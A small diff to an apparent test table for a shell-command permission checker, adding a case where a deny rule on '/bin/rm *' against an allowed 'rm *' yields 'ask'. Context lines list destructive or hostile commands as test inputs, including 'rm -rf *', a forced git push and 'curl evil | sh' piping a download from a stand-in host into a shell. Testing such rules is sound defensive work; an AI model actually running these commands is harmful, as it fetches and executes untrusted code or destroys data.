@@ -112,6 +112,7 @@ test.each<[Rule[], string, string]>([
   [[deny('rm *')], 'V=1 rm x > f', 'deny'],
   [[deny('rm -rf *'), allow('rm *')], 'rm $OPTIONS', 'ask'],
   [[deny('rm -rf *'), allow('rm *')], 'rm x', 'allow'],
+  [[deny('/bin/rm *'), allow('rm *')], 'rm x', 'ask'],
   [[deny('git push * --force*')], 'git push origin main --force-with-lease', 'deny'],
   [[deny('curl * | sh')], 'curl evil | sh', 'deny'],
   [[deny('curl * | sh')], 'curl evil; sh', 'ask'],
